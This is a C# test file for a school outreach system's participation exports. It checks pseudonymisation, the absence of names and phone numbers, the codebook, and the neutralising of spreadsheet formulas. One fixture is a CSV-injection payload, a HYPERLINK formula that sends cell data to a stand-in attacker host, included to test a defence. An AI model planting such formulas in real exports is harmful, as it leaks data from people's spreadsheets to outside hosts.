using System.Text.RegularExpressions;
using BkOutreach.Core.Participation;
using BkOutreach.Core.Schools;

namespace BkOutreach.Tests.Participation;

public sealed partial class ParticipationExportTests
{
    [Fact]
    public async Task GuardianExport_OneRowPerGuardianPerCampaign_WithFunnelFlagsAndTimes()
    {
        var kit = await ParticipationTestKit.CreateAsync();
        await kit.SeedFunnelAsync();

        var (header, rows) = ParticipationTestKit.Parse(await ParticipationTestKit.ReadAsync((await kit.Export.GuardianCampaignsAsync(kit.SchoolId, CancellationToken.None))!));
        var pseudonyms = await kit.Keys.ForSchoolAsync(kit.SchoolId, CancellationToken.None);
        string Col(string[] row, string name) => row[Array.IndexOf(header, name)];
        var g1 = rows.Single(r => Col(r, "guardian_pseudonym") == pseudonyms.Of("g1"));
        var g3 = rows.Single(r => Col(r, "guardian_pseudonym") == pseudonyms.Of("g3"));
        var g9 = rows.Single(r => Col(r, "guardian_pseudonym") == pseudonyms.Of("g9"));

        Assert.Equal(ParticipationExport.GuardianColumns.Select(c => c.Name), header);
        Assert.Equal(10, rows.Count);
        Assert.Equal(["1", "1", "1", "1", "1", "0", "0"], new[] { "sent", "delivered", "opened", "booked", "attended", "no_show", "cancelled" }.Select(c => Col(g1, c)));
        Assert.Equal("2027-01-11 08:00:00", Col(g1, "first_sent_local"));
        Assert.Equal("2027-01-11 11:00:00", Col(g1, "first_booked_local"));
        Assert.Equal(("saturday", "in_person", ""), (Col(g1, "slot_kind"), Col(g1, "slot_mode"), Col(g1, "feedback_score")));
        Assert.Equal(("1", "1"), (Col(g3, "booked"), Col(g3, "cancelled")));
        Assert.Equal(("0", "1", "1"), (Col(g9, "delivered"), Col(g9, "failed"), Col(g9, "opted_out")));
        Assert.Equal("XI IPS 2", Col(g9, "class"));
        Assert.Equal(ParticipationTestKit.Term, Col(g9, "term"));
    }

    [Fact]
    public async Task Exports_WriteNothing_AndABookingIsInBothOnceItsFactIsRecordedFromTheOutbox()
    {
        var kit = await ParticipationTestKit.CreateAsync();
        var ct = CancellationToken.None;
        await kit.Directory.PutCounselorAsync(kit.SchoolId, "bk-1", new CounselorSettings { Name = "Bu Rahma" }, ct);
        await kit.Campaigns.TryAddAsync(new BkOutreach.Core.Outreach.Campaign(ParticipationTestKit.Campaign, kit.SchoolId, new BkOutreach.Core.Outreach.CampaignDefinition { Name = "Genap", Term = ParticipationTestKit.Term }), ct);
        var (guardian, _) = await kit.Directory.UpsertGuardianAsync(kit.SchoolId, "+6281234567801", "Wali", "id", [new Student("s1", "Siswa", "XI IPA 1", "bk-1")], ct);

        // Saturday 16 January 2027, 08:00 WIB; taken through the store: its fact is the handler's to record.
        var start = new DateTimeOffset(2027, 1, 16, 1, 0, 0, TimeSpan.Zero);
        var seat = await kit.Bookings.TakeSeatAsync(
            new BkOutreach.Core.Booking.SeatRequest(kit.SchoolId, "bk-1", guardian.Id, ParticipationTestKit.Campaign, "bk-1.20270116T0800.30", start, start.AddMinutes(30), 1, "in_person", ["s1"]),
            null,
            ct);
        Assert.NotNull(seat.Booking);
        var pseudonym = (await kit.Keys.ForSchoolAsync(kit.SchoolId, ct)).Of(guardian.Id);

        // Until the handler recorded it the exports do not have it, and reading them puts nothing back.
        var (_, early) = ParticipationTestKit.Parse(await ParticipationTestKit.ReadAsync((await kit.Export.EventsAsync(kit.SchoolId, ct))!));
        kit.Time.Advance(TimeSpan.FromMinutes(5));
        await ParticipationTestKit.ReadAsync((await kit.Export.GuardianCampaignsAsync(kit.SchoolId, ct))!);
        Assert.Empty(early);
        Assert.Empty(await kit.Log.ListAsync(kit.SchoolId, ct));

        var pending = Assert.Single(await kit.Bookings.ListPendingEventsAsync(kit.SchoolId, "bk-1", ct));
        Assert.Equal(BkOutreach.Core.Booking.BookingEventKind.Booked, pending.Event.Kind);
        var campaign = await kit.Campaigns.GetAsync(kit.SchoolId, ParticipationTestKit.Campaign, ct);
        await new ParticipationFacts(kit.Log, kit.Campaigns, kit.Directory, kit.Time, Microsoft.Extensions.Logging.Abstractions.NullLogger<ParticipationFacts>.Instance).RecordBookingFactAsync(
            pending.Event.Booking, campaign, guardian, ParticipationKind.Booked, FactKeys.Booked(seat.Booking.Id), ParticipationChannel.Web,
            SlotChoice.Of(seat.Booking.Start, "Asia/Jakarta", "in_person").ToValue(), pending.Event.FirstAttemptAt, ct);
        var (eventHeader, events) = ParticipationTestKit.Parse(await ParticipationTestKit.ReadAsync((await kit.Export.EventsAsync(kit.SchoolId, ct))!));
        var (guardianHeader, guardians) = ParticipationTestKit.Parse(await ParticipationTestKit.ReadAsync((await kit.Export.GuardianCampaignsAsync(kit.SchoolId, ct))!));

        var booked = Assert.Single(events);
        Assert.Equal(("booked", pseudonym, "saturday:in_person"), (booked[Array.IndexOf(eventHeader, "kind")], booked[Array.IndexOf(eventHeader, "guardian_pseudonym")], booked[Array.IndexOf(eventHeader, "value")]));
        var row = Assert.Single(guardians);
        Assert.Equal(("1", "2027-01-11 08:00:00"), (row[Array.IndexOf(guardianHeader, "booked")], row[Array.IndexOf(guardianHeader, "first_booked_local")]));
    }

    [Fact]
    public async Task Pseudonyms_StableAcrossExportsAndRestarts_DifferentPerSchool_NotTheId()
    {
        var kit = await ParticipationTestKit.CreateAsync();
        var other = await ParticipationTestKit.CreateAsync();

        var first = (await kit.Keys.ForSchoolAsync(kit.SchoolId, CancellationToken.None)).Of("a1b2c3d4e5f60718");
        var again = (await kit.Keys.ForSchoolAsync(kit.SchoolId, CancellationToken.None)).Of("a1b2c3d4e5f60718");
        var afterRestart = (await new PseudonymKeyProvider(kit.Storage).ForSchoolAsync(kit.SchoolId, CancellationToken.None)).Of("a1b2c3d4e5f60718");
        var otherSchool = (await other.Keys.ForSchoolAsync(other.SchoolId, CancellationToken.None)).Of("a1b2c3d4e5f60718");

        Assert.Matches("^p[0-9a-f]{20}$", first);
        Assert.Equal(first, again);
        Assert.Equal(first, afterRestart);
        Assert.NotEqual(first, otherSchool);
        Assert.DoesNotContain("a1b2c3d4", first, StringComparison.Ordinal);
    }

    [Fact]
    public void Pseudonymizer_DependsOnTheSecret()
    {
        var secretA = Enumerable.Repeat((byte)1, 32).ToArray();
        var secretB = Enumerable.Repeat((byte)1, 31).Append((byte)2).ToArray();

        Assert.Equal(new Pseudonymizer(secretA).Of("g1"), new Pseudonymizer(secretA).Of("g1"));
        Assert.NotEqual(new Pseudonymizer(secretA).Of("g1"), new Pseudonymizer(secretB).Of("g1"));
        Assert.NotEqual(new Pseudonymizer(secretA).Of("g1"), new Pseudonymizer(secretA).Of("g2"));
        Assert.Throws<ArgumentOutOfRangeException>(() => new Pseudonymizer(new byte[16]));
    }

    [Fact]
    public async Task Exports_CarryNoPhoneNumberNameOrInternalId()
    {
        var kit = await ParticipationTestKit.CreateAsync();
        (string Name, string Phone, string Student)[] families =
        [
            ("Siti Aminah", "+6281234567890", "Muhammad Rizky Pratama"),
            ("Budi Santoso", "+6285711122233", "Anisa Nurul Hidayah"),
            ("Dewi Lestari", "+6289988877766", "Nurul Aini Kusuma"),
        ];
        var ids = new List<string>();
        foreach (var (name, phone, student) in families)
        {
            var (guardian, _) = await kit.Directory.UpsertGuardianAsync(kit.SchoolId, phone, name, "id", [new Student("s-" + phone[^4..], student, "XI IPA 1", "bk-1")], CancellationToken.None);
            ids.Add(guardian.Id);
        }

        await kit.SeedFunnelAsync(i => ids[i % ids.Count]);

        var texts = new[]
        {
            await ParticipationTestKit.ReadAsync((await kit.Export.GuardianCampaignsAsync(kit.SchoolId, CancellationToken.None))!),
            await ParticipationTestKit.ReadAsync((await kit.Export.EventsAsync(kit.SchoolId, CancellationToken.None))!),
            (await kit.Export.CodebookAsync(kit.SchoolId, CancellationToken.None))!,
        };

        Assert.Equal(3, ParticipationTestKit.Parse(texts[0]).Rows.Count);
        Assert.True(ParticipationTestKit.Parse(texts[1]).Rows.Count > 20);
        foreach (var text in texts)
        {
            foreach (var (name, phone, student) in families)
            {
                foreach (var word in name.Split(' ').Concat(student.Split(' ')))
                {
                    Assert.DoesNotContain(word, text, StringComparison.OrdinalIgnoreCase);
                }

                Assert.DoesNotContain(phone[3..], text, StringComparison.Ordinal);
            }

            foreach (var id in ids)
            {
                Assert.DoesNotContain(id, text, StringComparison.Ordinal);
            }

            Assert.DoesNotMatch(PhoneLike(), text);
        }
    }

    [Fact]
    public async Task Export_FormulaLikeCells_AreNeutralised_AndTheCsvStillParses()
    {
        var kit = await ParticipationTestKit.CreateAsync();
        string[] classes = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "+SUM(1,2)", "-2+3", "@cmd", "\tX IPA", "\rXI, \"IPS\"\n2", "XI IPA 1"];
        for (var i = 0; i < classes.Length; i++)
        {
            await kit.Log.RecordAsync(kit.Fact(ParticipationKind.SmsSent, FactKeys.SmsSent("c1", 0, "g" + i), "g" + i, ParticipationTestKit.Start, classes[i], campaign: "c1", wave: 0), CancellationToken.None);
        }

        foreach (var export in new[] { await kit.Export.GuardianCampaignsAsync(kit.SchoolId, CancellationToken.None), await kit.Export.EventsAsync(kit.SchoolId, CancellationToken.None) })
        {
            var (header, rows) = ParticipationTestKit.Parse(await ParticipationTestKit.ReadAsync(export!));
            var classColumn = Array.IndexOf(header, "class");

            Assert.Equal(classes.Length, rows.Count);
            Assert.All(rows, r => Assert.Equal(header.Length, r.Length));
            Assert.All(rows.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', $"cell starts like a formula: {cell}"));
            var written = rows.Select(r => r[classColumn]).ToHashSet();
            Assert.Contains("'" + classes[0], written);
            Assert.Contains("'+SUM(1,2)", written);
            Assert.Contains("'" + classes[5], written);
            Assert.Contains("XI IPA 1", written);
        }
    }

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+62812", "'+62812")]
    [InlineData("-1", "'-1")]
    [InlineData("@x", "'@x")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "'\rx")]
    [InlineData("x=1", "x=1")]
    [InlineData("", "")]
    [InlineData(null, "")]
    public void SpreadsheetSafe_PrefixesOnlyFormulaStarts(string? value, string expected) =>
        Assert.Equal(expected, SpreadsheetSafe.Cell(value));

    [Fact]
    public async Task Codebook_DescribesEveryColumnOfBothFiles_AndTheSurveyCodes()
    {
        var kit = await ParticipationTestKit.CreateAsync();

        var codebook = (await kit.Export.CodebookAsync(kit.SchoolId, CancellationToken.None))!;

        foreach (var name in ParticipationExport.GuardianColumns.Select(c => c.Name).Concat(ParticipationExport.EventColumns.Select(c => c.Name)))
        {
            Assert.Contains($"| `{name}` |", codebook, StringComparison.Ordinal);
        }

        Assert.Contains("1 = Limited time (work) (study: 70%)", codebook, StringComparison.Ordinal);
        Assert.Contains("2 = WhatsApp", codebook, StringComparison.Ordinal);
        Assert.Contains("Asia/Jakarta", codebook, StringComparison.Ordinal);
        Assert.Null(await kit.Export.CodebookAsync("no-such-school", CancellationToken.None));
    }

    // +62 / 62 / 0 followed by 8 and 8–11 more digits, with or without separators.
    [GeneratedRegex(@"(\+?62|\b0)[\s-]?8\d{1,3}[\s-]?\d{3,4}[\s-]?\d{3,4}")]
    private static partial Regex PhoneLike();
}
